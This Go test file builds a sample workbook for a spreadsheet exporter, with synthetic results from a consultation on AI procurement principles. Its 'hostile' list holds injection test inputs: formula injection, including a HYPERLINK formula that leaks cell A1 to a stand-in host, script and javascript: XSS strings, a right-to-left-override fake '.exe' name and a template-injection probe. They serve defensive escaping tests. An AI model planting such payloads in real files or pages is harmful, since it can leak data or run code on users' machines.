package xlsx_test

import (
	"math"
	"strings"
	"time"

	"canvass/internal/export"
)

var moment = time.Date(2026, 3, 14, 9, 0, 0, 0, time.FixedZone("EDT", -4*3600))

func share(f float64) export.Cell  { return export.Cell{Kind: export.Share, Number: f} }
func number(f float64) export.Cell { return export.Cell{Kind: export.Number, Number: f} }

// sample is a book with every feature, as an organiser would get it.
func sample() export.Book {
	return export.Book{
		Title:    "Principles for AI procurement",
		Subject:  "Feedback on eight draft principles",
		Language: "en",
		Created:  moment,
		About:    []export.Property{{Name: "canvass run", Value: "2026-03-14T13:00:00Z-7f3a"}, {Name: "canvass snapshot", Value: "sha256:0f1e"}},
		Sheets:   []export.Sheet{cover(), contents(), summary(), registrations(), principles(), themes(), matrix(), quotes(), review(), responses(), lists(), none()},
		Lists:    []export.List{{Name: "lst_decisions", Table: "tbl_lists", Column: "Decision"}, {Name: "lst_themes", Table: "tbl_lists", Column: "Theme"}},
	}
}

func cover() export.Sheet {
	rows := [][]export.Cell{
		{export.Words("Consultation"), export.Words("Principles for AI procurement, rounds in Washington, online and Madrid")},
		{export.Words("Period"), export.Words("2026-02-02 to 2026-03-14")},
		{export.Words("Responses"), export.Words("312 of 431 people who registered answered at least one question; 17 duplicate responses are counted once")},
		{export.Words("Last good ingest"), export.At(moment)},
		{export.Words("Privacy"), export.Words("People appear by a number. Names, addresses and needs are in the door list only. Cells under 5 people are not shown in published outputs.")},
		{export.Words("Corrections"), export.Words("Change the yellow cells of the sheet Review and send the file back")},
		{export.Words("Start here"), export.To("Contents", "Contents")},
	}
	return export.Sheet{
		Name: "Cover", Role: export.Front, Title: "Principles for AI procurement",
		Lead:   "What 312 people wrote about eight draft principles, to 2026-03-14 09:00.",
		Source: "canvass run 2026-03-14T13:00:00Z-7f3a",
		Table: &export.Table{
			Name:    "tbl_cover",
			Columns: []export.Column{{Name: "About"}, {Name: "Detail", Wrap: true, Width: 80}},
			Rows:    export.Rows(rows),
		},
	}
}

func contents() export.Sheet {
	var rows [][]export.Cell
	for _, s := range [][3]string{
		{"Summary", "How many came, what they agree with", "no"}, {"Registrations", "Places and waiting lists per round", "yes"},
		{"Principles", "Agreement on each principle", "yes"}, {"Themes", "What the comments are about", "yes"},
		{"Quotes", "Whole sentences, with consent", "no"}, {"Responses", "Every current response", "yes"}, {"Lists", "Words used in the other sheets", "no"},
	} {
		rows = append(rows, []export.Cell{export.To(s[0], s[0]), export.Words(s[1]), export.Words(s[2])})
	}
	return export.Sheet{
		Name: "Contents", Role: export.Front, Title: "Contents", Lead: "Each sheet answers one question.", Source: "canvass run 2026-03-14T13:00:00Z-7f3a",
		Table: &export.Table{
			Name:    "tbl_contents",
			Columns: []export.Column{{Name: "Sheet", Kind: export.Link}, {Name: "What it answers"}, {Name: "Changed since last week"}},
			Rows:    export.Rows(rows),
		},
	}
}

func summary() export.Sheet {
	rows := [][]export.Cell{
		{export.Words("People who registered"), export.Count(431), {}, export.Count(12)},
		{export.Words("People who gave feedback"), export.Count(312), export.Count(431), export.Count(31)},
		{export.Words("Texts they wrote"), export.Count(1904), {}, export.Count(207)},
		{export.Words("Mean agreement, all principles"), export.Words("3.8"), export.Count(2204), {}},
	}
	return export.Sheet{
		Name: "Summary", Role: export.Results, Title: "Summary",
		Lead:   "n = 312 of 431 registered, data to 2026-03-14 09:00, duplicates removed 17.",
		Source: "Registration and feedback forms; canvass run 2026-03-14T13:00:00Z-7f3a",
		Table: &export.Table{
			Name: "tbl_headline",
			Columns: []export.Column{
				{Name: "Measure"}, {Name: "Value", Kind: export.Number},
				{Name: "Base (n)", Kind: export.Number, Note: "How many people or texts the value is a part of."},
				{Name: "Change since last week", Kind: export.Number},
			},
			Rows: export.Rows(rows),
		},
		Charts: []export.Chart{agreement("chart_agree_by_principle"), responsesPerWeek()},
	}
}

func agreement(name string) export.Chart {
	return export.Chart{
		Name: name, Kind: export.StackedShares,
		Title: "Most agree with openness (81 %), fewest with the register of models (34 %), n = 287 to 305",
		Alt:   "Stacked bars: agreement with eight principles. Highest P1 81 %, lowest P8 34 %. Data in Principles!tbl_principles.",
		Table: "tbl_principles", Category: "Principle", Share: true,
		Series: []export.Series{
			{Column: "Strongly disagree", Colour: export.Likert1}, {Column: "Disagree", Colour: export.Likert2},
			{Column: "Neutral", Colour: export.Likert3}, {Column: "Agree", Colour: export.Likert4},
			{Column: "Strongly agree", Colour: export.Likert5},
		},
	}
}

func responsesPerWeek() export.Chart {
	return export.Chart{
		Name: "chart_registered", Kind: export.Columns,
		Title: "Madrid has more requests than seats: 97 for 55",
		Alt:   "Columns: registered and feedback per round. Highest Washington, lowest online. Data in Registrations!tbl_registrations.",
		Table: "tbl_registrations", Category: "Round",
		Series: []export.Series{{Column: "Registered", Colour: export.Primary}, {Column: "Feedback", Label: "Gave feedback", Colour: export.Secondary}},
	}
}

func registrations() export.Sheet {
	day := func(d int) export.Cell { return export.On(time.Date(2026, 2, d, 0, 0, 0, 0, time.UTC)) }
	rows := [][]export.Cell{
		{export.Words("Washington"), day(3), export.Count(55), export.Count(212), export.Count(171), share(171.0 / 212), export.Count(9)},
		{export.Words("Online"), day(10), export.Count(300), export.Count(122), export.Count(80), share(80.0 / 122), export.Count(0)},
		{export.Words("Madrid"), day(17), export.Count(55), export.Count(97), export.Count(61), share(61.0 / 97), export.Count(42)},
	}
	return export.Sheet{
		Name: "Registrations", Role: export.Results, Title: "Places and feedback per round",
		Lead: "n = 431 people who registered. A person is counted once in each round.", Source: "Registration form; canvass run 2026-03-14T13:00:00Z-7f3a",
		Table: &export.Table{
			Name: "tbl_registrations",
			Columns: []export.Column{
				{Name: "Round"}, {Name: "Date", Kind: export.Day}, {Name: "Seats", Kind: export.Number}, {Name: "Registered", Kind: export.Number},
				{Name: "Feedback", Kind: export.Number}, {Name: "Response rate", Kind: export.Share, Bar: true}, {Name: "Waiting", Kind: export.Number},
			},
			Rows: export.Rows(rows),
		},
		Charts: []export.Chart{{
			Name: "chart_seats", Kind: export.Bars, Title: "Two in three who registered also answered",
			Alt: "Bars: registered people per round.", Table: "tbl_registrations", Category: "Round",
			Series: []export.Series{{Column: "Registered"}},
		}},
	}
}

func principles() export.Sheet {
	names := []string{
		"P1 Openness from the start", "P2 People affected take part", "P3 Plain language in every tender", "P4 Someone is answerable",
		"P5 Small suppliers have a chance", "P6 Rights before price", "P7 Learning after the contract is signed", "P8 A public register of models",
	}
	var rows [][]export.Cell
	for i, n := range names {
		f := float64(i)
		sd, d, neutral := 0.02+f*0.025, 0.05+f*0.03, 0.12+f*0.012
		a := (1 - sd - d - neutral) * 0.55
		sa := 1 - sd - d - neutral - a
		flag := export.Cell{}
		if i == 7 {
			flag = export.Words("low base")
		}
		rows = append(rows, []export.Cell{
			export.Words(n), share(sd), share(d), share(neutral), share(a), share(sa), export.Count(305 - i*3),
			share(a + sa), number(4.2 - f*0.17), number(a + sa - sd - d), flag,
		})
	}
	return export.Sheet{
		Name: "Principles", Role: export.Results, Title: "Agreement with each principle",
		Lead:   "n = 287 to 305 people per principle; agree = 4 or 5 on the scale of five. The share is of people who rated the principle; 95 % intervals are Wilson's. Nobody was sampled at random, so intervals show the size of the base and not what a wider public thinks.",
		Source: "Feedback form; canvass run 2026-03-14T13:00:00Z-7f3a",
		Table: &export.Table{
			Name: "tbl_principles",
			Columns: []export.Column{
				{Name: "Principle"}, {Name: "Strongly disagree", Kind: export.Share}, {Name: "Disagree", Kind: export.Share},
				{Name: "Neutral", Kind: export.Share}, {Name: "Agree", Kind: export.Share}, {Name: "Strongly agree", Kind: export.Share},
				{Name: "n", Kind: export.Number}, {Name: "Agree or strongly agree", Kind: export.Share, Bar: true, Decimals: 1},
				{Name: "Mean", Kind: export.Number, Decimals: 1}, {Name: "Net", Kind: export.Number, Decimals: 2}, {Name: "Note"},
			},
			Rows: export.Rows(rows),
		},
		Charts: []export.Chart{agreement("chart_likert"), {
			Name: "chart_agree", Kind: export.Bars, Title: "Agreement falls from openness to the register",
			Alt: "Bars: agreement by principle, highest P1.", Table: "tbl_principles", Category: "Principle", Share: true,
			Series: []export.Series{{Column: "Agree or strongly agree", Colour: export.Primary}},
		}},
	}
}

func themes() export.Sheet {
	names := []string{"Transparency of contracts", "Accountability when it fails", "Cost and capacity", "Language and access", "Data protection", "Appeal", "Local suppliers"}
	var rows [][]export.Cell
	for i, n := range names {
		rows = append(rows, []export.Cell{export.Words(n), export.Count(210 - 27*i), export.Count(180 - 22*i), share(float64(180-22*i) / 312)})
	}
	return export.Sheet{
		Name: "Themes", Role: export.Results, Title: "What the comments are about",
		Lead: "n = 312 people; one text may speak to several themes.", Source: "Feedback form; codebook 3f2a; canvass run 2026-03-14T13:00:00Z-7f3a",
		Table: &export.Table{
			Name: "tbl_themes",
			Columns: []export.Column{
				{Name: "Theme"}, {Name: "Mentions", Kind: export.Number, Bar: true}, {Name: "People", Kind: export.Number}, {Name: "Share of people", Kind: export.Share, Bar: true},
			},
			Rows: export.Rows(rows),
		},
		Charts: []export.Chart{{
			Name: "chart_themes", Kind: export.Bars, Title: "Transparency is named by more than half of all people (58 %)",
			Alt: "Bars: people per theme. Highest Transparency of contracts 180, lowest Local suppliers 48.", Table: "tbl_themes", Category: "Theme",
			Series: []export.Series{{Column: "People"}},
		}},
	}
}

func quotes() export.Sheet {
	rows := [][]export.Cell{
		{export.Words("Transparency of contracts"), export.Words("P1"), export.Words("If the contract is secret, the public cannot know whether the system was ever tested, and neither can the next official who has to run it."), export.Words("named: A. Example"), export.Words("feedback/r-0031")},
		{export.Words("Accountability when it fails"), export.Words("P4"), export.Words("Cuando el sistema se equivoca, nadie contesta el teléfono. [removed]"), export.Words("anonymous"), export.Words("feedback-es/r-0102")},
		{export.Words("Cost and capacity"), export.Words("P5"), export.Words("Good."), export.Words("anonymous"), export.Words("feedback/r-0200")},
	}
	return export.Sheet{
		Name: "Quotes", Role: export.Results, Title: "In their own words", Lead: "Whole sentences from people who agreed to be quoted.", Source: "Feedback form",
		Table: &export.Table{
			Name: "tbl_quotes",
			Columns: []export.Column{
				{Name: "Theme"}, {Name: "Principle"}, {Name: "Quote", Wrap: true, Width: 70}, {Name: "Consent"}, {Name: "Response", ID: true},
			},
			Rows: export.Rows(rows),
		},
	}
}

// hostile are texts that break careless writers.
var hostile = []string{
	`=1+1`, `=HYPERLINK("http://x.example/?"&A1,"ok")`, `@SUM(1)`, `+1+1`, `-1+1`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", "＝1+1",
	"+44 20 7946 0000", "- I agree", "@handle", strings.Repeat("word ", 8000),
	"_x000D_", "_x0041_", "_x0041_x0042_", "_x005F_x000D_", "_xD83D_", "  edges  ", "a\r\nb\rc", "00123", "1e5", "1/2", "TRUE", "#REF!", "\ufffe\uffff",
	"nul\x00 bell\a esc\x1b[2J del\x7f csi\u009b31m", "bytes \xff\xfe", "rtl \u202egpj.exe", "\u2066unclosed", "مرحبا بالعالم 123 abc", "שלום, עולם!", "👨‍👩‍👧‍👦 🇪🇸 👍🏽",
	"a" + strings.Repeat("\u0301", 200), "\u2028line\u2029para", "<script>alert(1)</script> &lt;b&gt; ]]>", "{{.Secret}}", "\u00a0\u00a0", "javascript:alert(1)",
}

func responses() export.Sheet {
	var rows [][]export.Cell
	for i, h := range hostile {
		rows = append(rows, []export.Cell{
			{Kind: export.Text, Text: "feedback/r-" + string(rune('a'+i%26)) + "0"}, export.At(moment.Add(time.Duration(i) * time.Hour)), export.Words("Washington"),
			export.Words(h), export.Words("transparency; cost"), number(float64(i) / 44),
		})
	}
	rows = append(rows, []export.Cell{export.Words("odd"), export.At(time.Date(1850, 5, 6, 7, 8, 0, 0, time.UTC)), {}, {}, {}, number(math.NaN())})
	return export.Sheet{
		Name: "Responses", Role: export.Data, Title: "Responses", Lead: "One row a response, newest version only.", Source: "Feedback form",
		Table: &export.Table{
			Name: "tbl_responses",
			Columns: []export.Column{
				{Name: "Response", ID: true}, {Name: "Submitted", Kind: export.Moment}, {Name: "Round"},
				{Name: "What would you change in principle 1, and why? _x0041_ is typed here", Wrap: true}, {Name: "Themes"}, {Name: "Confidence", Kind: export.Number, Decimals: 2},
			},
			Rows: export.Rows(rows),
		},
	}
}

func none() export.Sheet {
	return export.Sheet{
		Name: "Empty", Role: export.Data, Title: "Nothing", Lead: "A table without rows.",
		Table: &export.Table{Name: "tbl_none", Columns: []export.Column{{Name: "Decision"}, {Name: "Meaning"}}, Empty: "No decisions so far."},
	}
}

// lists has columns of different lengths, of which the chart of principles draws some.
func lists() export.Sheet {
	rows := [][]export.Cell{
		{export.Words("keep"), export.Words("Cost"), export.Words("P1 (neither 12 %)"), share(-0.06), share(-0.05), share(0.06), share(0.45)},
		{export.Words("change"), export.Words("Appeal"), export.Words("P8 (neither 20 %)"), share(-0.10), share(-0.31), share(0.10), share(0.34)},
		{export.Words("remove")},
	}
	return export.Sheet{
		Name: "Lists", Role: export.Helper, Title: "Lists", Lead: "Words used elsewhere.",
		Table: &export.Table{Name: "tbl_lists", Rows: export.Rows(rows), Columns: []export.Column{
			{Name: "Decision"}, {Name: "Theme"}, {Name: "Label"}, {Name: "Neither left", Kind: export.Share}, {Name: "Against", Kind: export.Share},
			{Name: "Neither right", Kind: export.Share}, {Name: "For", Kind: export.Share},
		}},
		Charts: []export.Chart{{
			Name: "chart_diverging", Kind: export.Diverging, Title: "More agree than disagree, n = 287 to 305", Alt: "Diverging bars. Data in Lists!tbl_lists.", Table: "tbl_lists", Category: "Label", Share: true,
			Series: []export.Series{
				{Column: "Neither left", Colour: export.Likert3, Mute: true}, {Column: "Against", Colour: export.Likert1},
				{Column: "Neither right", Colour: export.Likert3, Mute: true}, {Column: "For", Colour: export.Likert5},
			},
		}},
	}
}

func matrix() export.Sheet {
	columns := []export.Column{{Name: "Theme"}}
	for _, p := range []string{"P1", "P2", "P3"} {
		columns = append(columns, export.Column{Name: p, Kind: export.Number, Scale: true})
	}
	rows := [][]export.Cell{
		{export.Words("Cost"), export.Count(12), export.Count(0), export.Count(3)}, {export.Words("Appeal"), export.Count(1), export.Count(40), export.Count(7)},
	}
	return export.Sheet{
		Name: "Theme_matrix", Role: export.Results, Title: "Where each theme comes up", Lead: "People.",
		Table: &export.Table{Name: "tbl_theme_principle", Columns: columns, Rows: export.Rows(rows)},
	}
}

// review has cells to fill in.
func review() export.Sheet {
	rows := [][]export.Cell{
		{export.Words("r-0031"), export.Words("If the contract is secret, nobody can know whether it was ever tested."), share(0.52), {}, {}, {}, export.Words("key/1")},
		{export.Words("r-0032"), export.Words("=1+1"), share(0.61), export.Words("change"), {}, {}, export.Words("key/2")},
	}
	return export.Sheet{
		Name: "Review", Role: export.Review, Title: "Correct a wrong theme here", Lead: "1 of 2 rows is decided.",
		Table: &export.Table{
			Name: "tbl_review", Rows: export.Rows(rows), Columns: []export.Column{
				{Name: "Response", ID: true}, {Name: "Text", Width: 40, Wrap: true}, {Name: "Confidence", Kind: export.Share},
				{Name: "Decision (entry)", Entry: true, List: "lst_decisions", Note: "keep: \"right\" & nothing else."}, {Name: "Correct theme (entry)", Entry: true, List: "lst_themes"},
				{Name: "Note (entry)", Entry: true, Note: strings.Repeat("Anything. ", 40)}, {Name: "Review key", ID: true, Width: 14, Machine: true},
			},
			Needs: []export.Need{{When: "Decision (entry)", Is: "change", OneOf: []string{"Correct theme (entry)", "Note (entry)"}}},
		},
	}
}
